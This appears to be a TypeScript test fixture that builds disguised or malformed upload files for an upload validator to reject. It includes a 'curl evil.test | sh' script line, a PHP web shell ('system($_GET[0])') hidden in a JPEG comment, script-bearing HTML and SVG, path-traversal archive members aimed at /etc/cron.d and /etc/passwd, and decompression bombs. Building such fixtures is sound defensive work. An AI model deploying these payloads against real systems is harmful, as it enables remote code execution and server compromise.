import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import type { ErrorCode } from 'contract/errors'
import sharp from 'sharp'
import { compound, doc, docx, docxMembers, jpeg, pdf, png } from './documents'
import { zip } from './zip'

export interface Polyglot {
  what: string
  name: string
  content: Buffer
  type?: string
  /** Its reason, if that is another one than its type. */
  code?: ErrorCode
}

/** Text as the bytes of a file, one a letter. */
export const bytes = (text: string) => Buffer.from(text, 'latin1')
const HTML = '<!doctype html><script>fetch("/api/v1/auth/me")</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
/** The head of a Windows program, of a Linux one, of a shell script and of a Java class. */
const EXE = Buffer.concat([
  bytes('MZ\x90\x00\x03'),
  Buffer.alloc(58),
  bytes('\x80\0\0\0This program cannot be run in DOS mode'),
])
const ELF = Buffer.concat([bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(200)])
const JAVA = Buffer.concat([bytes('\xca\xfe\xba\xbe\0\0\x004'), Buffer.alloc(100)])
const GIF = bytes(
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
)
const RTF = bytes('{\\rtf1\\ansi Experience}')

/** A JPEG with a segment of words after its first bytes. */
function withComment(picture: Buffer, words: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(words.length + 2, 2)
  return Buffer.concat([picture.subarray(0, 2), head, bytes(words), picture.subarray(2)])
}

/** A PNG whose header says other sides than it has, with a right sum; `crc` from the chunk itself. */
async function hugePng(): Promise<Buffer> {
  const { crc32 } = await import('node:zlib')
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([bytes(type), data])
    const whole = Buffer.alloc(8 + body.length)
    whole.writeUInt32BE(data.length, 0)
    body.copy(whole, 4)
    whole.writeUInt32BE(crc32(body), 4 + body.length)
    return whole
  }
  const sides = Buffer.from([0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 8, 2, 0, 0, 0])
  return Buffer.concat([
    bytes('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', sides),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A relationship part with one target outside of the archive. */
export const relationship = (type: string, target: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${TYPES}/${type}" Target="${target}" TargetMode="External"/></Relationships>`

/** Files whose name says one thing and whose content another, or two things at once; none may be kept. */
export async function polyglots(): Promise<Polyglot[]> {
  const [aPdf, aJpeg, aPng] = await Promise.all([pdf(), jpeg(), png()])
  const webp = await sharp(aPng).webp().toBuffer()
  const word = (more: Parameters<typeof docxMembers>[0], main?: string) => zip(docxMembers(more, main))
  const glued = (...parts: Buffer[]) => Buffer.concat(parts)
  const list: [what: string, name: string, content: Buffer, type?: string | undefined, code?: ErrorCode][] = [
    ['a page called a picture', 'me.jpg', bytes(HTML), 'image/jpeg'],
    ['a page called a document', 'cv.pdf', bytes(HTML), 'application/pdf'],
    ['a page behind the first bytes of a picture', 'me.jpeg', glued(bytes('\xff\xd8\xff\xe0'), bytes(HTML))],
    ['a page in a comment of a picture', 'me.jpg', withComment(aJpeg, HTML)],
    ['a page behind the end of a picture', 'me.jpg', glued(aJpeg, bytes(HTML))],
    ['a page behind the end of another picture', 'me.png', glued(aPng, bytes(HTML))],
    ['a page that begins as a document', 'cv.pdf', glued(bytes('%PDF-1.7\n'), bytes(HTML))],
    [
      'a page in the first kilobyte of a document',
      'cv.pdf',
      glued(aPdf.subarray(0, 9), bytes(`%${HTML}\n`), aPdf.subarray(9)),
    ],
    ['a page behind the end of a document', 'cv.pdf', glued(aPdf, bytes(HTML))],
    ['a drawing with a script called a picture', 'me.png', bytes(SVG), 'image/png'],
    ['a drawing under its own name', 'me.svg', bytes(SVG), 'image/svg+xml'],
    ['a drawing behind a picture', 'me.png', glued(aPng, bytes(SVG))],
    ['a page under its own name', 'cv.html', bytes(HTML), 'application/pdf'],
    ['a program called a document', 'cv.pdf', EXE, 'application/pdf'],
    ['a program behind the first bytes of a document', 'cv.pdf', glued(bytes('%PDF-1.4\n'), EXE)],
    ['a program behind the end of a document', 'cv.pdf', glued(aPdf, EXE)],
    ['a program called a Word document', 'cv.doc', EXE, 'application/msword'],
    ['a program called a newer Word document', 'cv.docx', ELF],
    ['a program called a picture', 'me.png', ELF],
    ['a class called a picture', 'me.jpg', JAVA],
    ['a program under its own name', 'cv.exe', EXE, 'application/pdf'],
    ['two extensions, the last one counts', 'cv.pdf.exe', aPdf, 'application/pdf'],
    ['an extension behind a NUL', 'cv.exe\0.pdf', EXE, 'application/pdf'],
    ['a script called a document', 'cv.pdf', bytes('#!/bin/sh\ncurl evil.test | sh\n')],
    ['a script of a web server called a picture', 'me.jpg', withComment(aJpeg, '<?php system($_GET[0]); ?>')],
    ['a moving picture called a still one', 'me.png', GIF, 'image/png'],
    ['a newer picture called an older one', 'me.jpg', webp, 'image/jpeg'],
    ['a moving picture called another one', 'me.jpg', GIF, 'image/jpeg'],
    ['a document called a picture', 'me.png', aPdf, 'image/png'],
    ['a picture called a document', 'cv.pdf', aJpeg, 'application/pdf'],
    ['an archive behind a picture', 'me.jpg', glued(aJpeg, docx())],
    ['an archive behind a document', 'cv.pdf', glued(aPdf, docx())],
    ['a document behind a picture', 'me.png', glued(aPng, aPdf)],
    ['a picture cut off', 'me.jpg', aJpeg.subarray(0, aJpeg.length - 40)],
    ['another picture cut off', 'me.png', aPng.subarray(0, aPng.length - 20)],
    ['a picture whose sum is wrong', 'me.png', glued(aPng.subarray(0, 20), bytes('\x77'), aPng.subarray(21))],
    ['a picture of four gigapixels', 'me.png', await hugePng(), undefined, 'files.picture_pixels'],
    ['a document cut off', 'cv.pdf', aPdf.subarray(0, aPdf.length - 60)],
    ['nothing at all', 'cv.pdf', Buffer.alloc(0), 'application/pdf'],
    ['formatted text called a Word document', 'cv.doc', RTF],
    ['a Word document called an older one', 'cv.doc', docx()],
    ['an older Word document called a newer one', 'cv.docx', doc()],
    ['a table called a Word document', 'cv.doc', compound(['Workbook'])],
    ['an archive called a Word document', 'cv.docx', zip([{ name: 'readme.txt', data: 'hello' }])],
    ['a bomb of small size', 'cv.docx', word([{ name: 'word/media/x', data: Buffer.alloc(3_000_000) }])],
    [
      'much more than a document has in it',
      'cv.docx',
      word(
        Array.from({ length: 3 }, (_, i) => ({
          name: `word/media/${i}`,
          data: Array.from({ length: 200 }, () => randomBytes(1000).toString('hex').padEnd(42_000)).join(''),
        })),
      ),
    ],
    ['a member that climbs out', 'cv.docx', word([{ name: '../../../../etc/cron.d/x', data: 'x' }])],
    ['a member that climbs out of Windows', 'cv.docx', word([{ name: '..\\..\\x.dll', data: 'x' }])],
    ['a member with an absolute name', 'cv.docx', word([{ name: '/etc/passwd', data: 'x' }])],
    ['a member on another drive', 'cv.docx', word([{ name: 'C:/x.txt', data: 'x' }])],
    [
      'a member that is a link',
      'cv.docx',
      word([{ name: 'word/media/x', data: '/etc/passwd', mode: 0o120777 }]),
    ],
    ['a member that nobody can read', 'cv.docx', word([{ name: 'word/x.xml', data: 'x', encrypted: true }])],
    [
      'two members of one name',
      'cv.docx',
      word([
        { name: 'word/x.xml', data: 'a' },
        { name: 'word/x.xml', data: 'b' },
      ]),
    ],
    ['a bomb that says so', 'cv.docx', word([{ name: 'word/media/x', data: 'x', claims: 3_000_000_000 }])],
    [
      'a bomb that hides it',
      'cv.docx',
      word([{ name: 'word/media/x', data: Buffer.alloc(30_000_000), claims: 100 }]),
    ],
    [
      'a bomb in many parts',
      'cv.docx',
      word(
        Array.from({ length: 4 }, (_, i) => ({ name: `word/media/${i}`, data: Buffer.alloc(45_000_000) })),
      ),
    ],
    ['a Word document behind a page', 'cv.docx', zip(docxMembers(), { before: HTML })],
    ['a Word document before a page', 'cv.docx', zip(docxMembers(), { comment: HTML })],
  ]
  return list.map(([what, name, content, type, code]) => ({
    what,
    name,
    content,
    ...(type && { type }),
    ...(code && { code }),
  }))
}
